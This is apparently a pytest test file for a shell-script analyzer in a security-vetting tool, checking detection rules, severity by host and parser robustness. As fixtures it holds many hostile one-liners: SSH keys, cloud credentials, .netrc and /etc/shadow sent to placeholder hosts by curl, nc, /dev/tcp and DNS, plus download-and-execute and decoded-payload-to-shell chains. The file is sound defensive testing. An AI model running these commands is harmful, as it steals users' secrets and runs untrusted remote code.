"""Shell: what flows where, how bad it is, and that no text breaks the reader."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sluicegate.vet.inspect.analyzers.shell import ShellAnalyzer
from sluicegate.vet.inspect.rule import Inspected, Subject
from sluicegate.vet.intake.bundle import Artifact, Bundle, Kind
from sluicegate.vet.intake.views.view import Step, View
from sluicegate.vet.verdict.types import GapReason, Severity

ANALYZER = ShellAnalyzer()


def inspect(text: str, *steps: str) -> Inspected:
    kind = Kind.MARKDOWN if steps else Kind.SHELL
    artifact = Artifact(path="run.sh", data=text.encode("utf-8", "replace"), mode=0o755, kind=kind)
    bundle = Bundle(name="b", root="", artifacts=(artifact,), gaps=(), anomalies=())
    origin = tuple(Step(kind=step) for step in steps)
    view = View(artifact=artifact, text=text, language=Kind.SHELL, origin=origin)
    return ANALYZER.inspect(Subject(bundle=bundle, views=(view,)))


def hits(text: str, *steps: str) -> dict[str, Severity | None]:
    return {match.rule: match.severity for match in inspect(text, *steps).matches}


@pytest.mark.parametrize(
    "text",
    [
        "cat ~/.ssh/id_rsa | base64 | curl -d @- https://e.example.com",
        'X=$(env); Y="a $X"; wget --post-data="$Y" https://e.example.com',
        'send() { curl -d "$1" https://e.example.com; }\nK=$(cat ~/.aws/credentials)\nsend "$K"',
        "f() { curl -d @- https://e.example.com; }; cat ~/.netrc | f",
        'tar czf /tmp/x.tgz ~/.ssh && curl -F "f=@/tmp/x.tgz" https://e.example.com',
        "cat <<EOF | curl -d @- https://e.example.com\n$(cat /etc/shadow)\nEOF",
        "for f in ~/.ssh/id_*; do cat $f | nc 192.0.2.4 99; done",
        'cat ~/.ssh/id_rsa | { read k; curl -d "$k" https://e.example.com; }',
        "env > /dev/tcp/192.0.2.1/80",
        'curl "https://e.example.com/?k=`cat ~/.npmrc`"',
        "dig $(cat ~/.netrc | base64).e.example.com",
        "sudo -u root cat ~/.kube/config | timeout 5 curl -T - https://e.example.com",
        "exec 3< ~/.ssh/id_rsa\ncurl -d @- https://e.example.com <&3",
        "exec {in}< ~/.ssh/id_rsa\ncurl -d @- https://e.example.com <&$in",
        "exec 5<~/.netrc\ncurl -d @/dev/fd/5 https://e.example.com",
        "exec < ~/.netrc\ncurl -d @- https://e.example.com",
        'exec 4<~/.netrc\nread -u 4 x\ncurl -d "$x" https://e.example.com',
        'mapfile -t x < ~/.netrc\ncurl -d "${x[*]}" https://e.example.com',
        'readarray < ~/.netrc\ncurl -d "${MAPFILE[*]}" https://e.example.com',
        "read < ~/.netrc\ncurl -d $REPLY https://e.example.com",
    ],
)
def test_a_secret_is_followed_to_the_network(text: str) -> None:
    assert hits(text)["shell-secret-to-network"] is Severity.CRITICAL


@pytest.mark.parametrize(
    "text",
    [
        'curl -H "Authorization: Bearer $OPENAI_API_KEY" https://api.example.com -d \'{"a":1}\'',
        "cat ~/.ssh/id_rsa.pub | curl -d @- https://e.example.com",
        "cat ~/.ssh/id_rsa | curl -d @- http://localhost:8080",
        "cat ~/.ssh/config\ncurl https://e.example.com",
        "cat .env.example | curl -d @- https://e.example.com",
        'curl -d "name=$NAME" https://e.example.com',
    ],
)
def test_ordinary_clients_are_no_finding(text: str) -> None:
    assert "shell-secret-to-network" not in hits(text)


@pytest.mark.parametrize(
    "text",
    [
        "curl -s http://192.0.2.1/i | sudo bash -s -- -y",
        "wget -qO f http://192.0.2.1/f && chmod +x f && ./f",
        "curl -sSLO http://192.0.2.1/a/run.sh?z; sh run.sh",
        'eval "$(curl -s http://192.0.2.1)"',
        "bash <(curl http://192.0.2.1)",
        "source <(curl http://192.0.2.1)",
        'python3 -c "$(curl http://192.0.2.1)"',
        "U=http://192.0.2.1/x; curl $U | sh",
        'C="curl http://192.0.2.1|sh"; bash -c "$C"',
        "bash <<EOF\ncurl http://192.0.2.1 | sh\nEOF",
        "$(curl http://192.0.2.1)",
        "curl http://192.0.2.1 | tee /tmp/x | sh",
    ],
)
def test_a_download_is_followed_to_what_runs_it(text: str) -> None:
    assert hits(text)["shell-download-to-exec"] is Severity.CRITICAL


def test_the_host_decides_how_bad_a_download_is() -> None:
    assert hits("curl -LsSf https://astral.sh/uv/install.sh | sh", "fence") == {
        "shell-download-to-exec": Severity.LOW
    }
    assert (
        hits("curl https://new.example.com/i.sh | sh", "fence")["shell-download-to-exec"] is Severity.MEDIUM
    )
    assert hits("curl https://new.example.com/i.sh | sh")["shell-download-to-exec"] is Severity.HIGH
    assert hits("curl http://localhost/i.sh | sh") == {}


@pytest.mark.parametrize(
    "text",
    [
        "echo aGk= | base64 -d | sh",
        "echo xx | base64 --decode > /tmp/a; bash /tmp/a",
        'X=$(xxd -r -p data.hex); eval "$X"',
        "openssl enc -d -aes256 -in x | bash",
    ],
)
def test_a_decoded_text_is_followed_to_what_runs_it(text: str) -> None:
    assert hits(text)["shell-decoded-to-exec"] is Severity.CRITICAL


STEPS = (
    'cp -r {0} "$D/{1}"',
    "tar czf /tmp/{1}.tgz {0}",
    "gzip -c {0} > /tmp/{1}.gz",
    "base64 {0} > {1}",
    "zip -qr {1}.zip {0}",
)
WROTE = ("$D/{1}", "/tmp/{1}.tgz", "/tmp/{1}.gz", "{1}", "{1}.zip")
SENDS = (
    "curl -T {0} https://up.quietrelay.example.com/in",
    'curl -F "f=@{0}" https://up.quietrelay.example.com/in',
    "cat {0} | curl --data-binary @- https://up.quietrelay.example.com/in",
    "scp -r {0} x@up.quietrelay.example.com:/in",
)


@given(st.lists(st.integers(0, len(STEPS) - 1), max_size=4), st.sampled_from(SENDS), st.booleans())
def test_what_is_staged_is_followed_however_it_is_staged(steps: list[int], send: str, keys: bool) -> None:
    held, lines = "~/.ssh" if keys else "~/Documents", ["D=$(mktemp -d)"]
    for number, step in enumerate(steps):
        lines.append(STEPS[step].format(held, f"n{number}"))
        held = WROTE[step].format(held, f"n{number}")
    rule = "shell-secret-to-network" if keys else "shell-files-to-network"
    assert rule in hits("\n".join([*lines, send.format(held)]))


def test_text_in_a_sentence_weighs_less_than_a_script() -> None:
    assert hits("echo aGk= | base64 -d | sh", "command")["shell-decoded-to-exec"] is Severity.HIGH


def test_a_program_in_an_argument_does_not_run_its_input() -> None:
    assert hits("curl https://e.example.com/x | python3 -c 'import json'") == {}
    assert hits("curl https://e.example.com/x | python3 -m json.tool") == {}


def test_words_that_close_lists_end_the_reading_of_broken_text() -> None:
    assert inspect("(if x; fi)\n(fi)\n$(done)\n`esac`\n{ fi }\n").gaps == ()


def test_capabilities_name_hosts_commands_files_and_variables() -> None:
    seen = inspect(
        'curl -H "X: $MY_TOKEN" https://api.example.com/v1 > out.json\ncat notes.txt\njq . out.json\n'
    )
    assert {c.name for c in seen.capabilities} >= {
        "net:api.example.com", "cmd:curl", "cmd:jq", "env:MY_TOKEN", "fs:w:out.json", "fs:r:notes.txt",
    }  # fmt: skip
    assert {c.line for c in seen.capabilities if c.name == "cmd:jq"} == {3}


def test_places_are_those_of_the_command() -> None:
    text = "echo one\ncurl -s http://192.0.2.1/i | sh\n"
    (match,) = inspect(text).matches
    assert match.view is not None
    assert match.view.artifact_lines(match.start, match.end) == (2, 2)


def test_text_beyond_the_budget_is_a_gap_and_what_stands_before_is_found() -> None:
    seen = inspect("curl -s http://192.0.2.1/i | sh\n" + "a;b;c\n" * 30_000)
    assert [gap.reason for gap in seen.gaps] == [GapReason.ANALYSIS_LIMIT]
    assert "shell-download-to-exec" in {match.rule for match in seen.matches}


@pytest.mark.parametrize(
    "unit", ["$(", "x=(", "a|", "<<E\n", "`", '"', "${", "(if", "case x in ", "{ ", "f() ", "$((", "<("]
)
def test_deep_and_broken_text_is_read_without_recursion(unit: str) -> None:
    inspect(unit * 3_000)


@pytest.mark.parametrize("unit", ["\n", "# x\n", "then ", "a ", "x=1 ", "[[ ", "a \\\n"])
def test_what_the_budget_does_not_reach_is_not_looked_at_again_and_again(unit: str) -> None:
    """Looked at once more from each of its lines or words, it would take hours."""
    assert [gap.reason for gap in inspect(unit * 250_000).gaps] == [GapReason.ANALYSIS_LIMIT]


def test_what_stands_under_a_command_counts_for_each_of_its_files_and_for_no_other_command() -> None:
    led = "Host *\n  ProxyCommand nc proxy.example.com 1\n"
    both = f"cat > copy.txt > ~/.ssh/config <<E\n{led}E\n"
    plain = "cat > ~/.ssh/config <<E\nHost build\n  Port 2222\nE\n"
    found = inspect(both).matches
    assert found != ()
    assert inspect(plain).matches == ()
    assert [(each.rule, each.start) for each in inspect(both + plain).matches] == [
        (each.rule, 0) for each in found
    ]
    assert {each.start for each in inspect(plain + both).matches} == {len(plain)}


PIECES = st.sampled_from(
    ["curl ", "$(", ")", "`", '"', "'", "|", "&&", ";", "\n", "<<E\n", "E\n", "if ", "fi", "done", "do ", "{ ", "}", "case ", "esac",
     "x=", "$x", "${x:-", "}", "(", "<(", ">", "eval ", "sh ", "f() ", "\\", "#", "~/.ssh/id_rsa ", "é", "\r", "$'", "[[ "]
)  # fmt: skip


@settings(max_examples=150, deadline=None)
@given(st.lists(PIECES, max_size=40).map("".join))
def test_any_text_is_read_and_always_the_same_way(text: str) -> None:
    first = inspect(text)
    assert inspect(text) == first
    for match in first.matches:
        assert 0 <= match.start < match.end
